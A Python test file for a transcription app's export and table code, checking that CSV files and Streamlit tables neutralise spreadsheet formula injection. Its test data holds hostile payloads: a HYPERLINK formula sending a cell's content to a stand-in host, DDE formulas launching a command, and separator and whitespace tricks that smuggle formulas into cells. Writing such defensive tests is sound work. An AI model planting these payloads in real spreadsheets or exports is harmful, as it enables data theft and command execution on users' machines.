"""No table of ours, saved or shown, makes a spreadsheet compute what a person wrote or said."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from core.settings import ROOT
from core.spreadsheets import FORMULA, JOINER, without_formulas
from core.transcripts import export
from core.transcripts.segments import TranscribedSegment

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "слово;=1+1",  # the separator of Russian spreadsheets
    'слово";=1+1',
]
SAFE = ["обычный текст, с запятой", "a = b", "so-called", "me@example.org", "", "10 %", "«=1»"]


def computed(cell: str) -> bool:
    """Whether a spreadsheet would compute some part of the cell, whatever it takes for a separator."""
    return any(part.startswith(tuple(FORMULA)) for part in re.split(r"[;\t\r\n]", cell) if part)


@pytest.mark.parametrize("cell", EVIL)
def test_what_would_be_computed_is_text(cell):
    assert computed(cell)

    for text in (without_formulas(cell), without_formulas(cell, JOINER)):
        assert not text.startswith(tuple(FORMULA))
        assert ";=" not in text
    assert without_formulas(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", SAFE)
def test_what_is_text_stays_as_it_is(cell):
    assert without_formulas(cell) == cell


@given(st.text(alphabet=f"{FORMULA};a'\" ", max_size=20))
def test_no_text_begins_a_formula(cell):
    assert not computed(without_formulas(cell))


@pytest.mark.parametrize("evil", EVIL)
def test_no_cell_of_a_transcript_is_computed(evil):
    segments = [TranscribedSegment(0, evil, 0.0, 1.0, evil, ())]

    content = export.file(segments, "a.wav", "csv").content.decode("utf-8-sig")

    assert not [cell for row in csv.reader(io.StringIO(content)) for cell in row if computed(cell)]


def test_json_keeps_what_was_said():
    content = export.file([TranscribedSegment(0, "mono", 0.0, 1.0, EVIL[1], ())], "a.wav", "json").content

    assert EVIL[1] in content.decode()


def test_tables_of_the_pages_are_saved_without_formulas_and_look_the_same():
    """Streamlit's toolbar saves any of them as CSV and escapes nothing."""

    def page():
        from pages.components import common
        from tests.test_spreadsheets import EVIL, SAFE

        rows = [{"title": text, "n": n, "error": "-12.5 %"} for n, text in enumerate([*EVIL, *SAFE])]
        common.table(rows)

    table = AppTest.from_function(page).run(timeout=60).dataframe[0].value

    assert not [cell for cell in table["title"] if computed(cell)]
    assert [cell.replace(JOINER, "") for cell in table["title"]] == [*EVIL, *SAFE]
    assert set(table["error"]) == {"-12.5 %"}, "a number may be computed"
    assert list(table["n"]) == list(range(len(table)))


def test_every_table_of_the_pages_is_such_a_table():
    tables = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "pages").rglob("*.py")
        if re.search(r"st\.(dataframe|table)\(", path.read_text(encoding="utf-8"))
    ]

    assert tables == ["pages/components/common.py"]
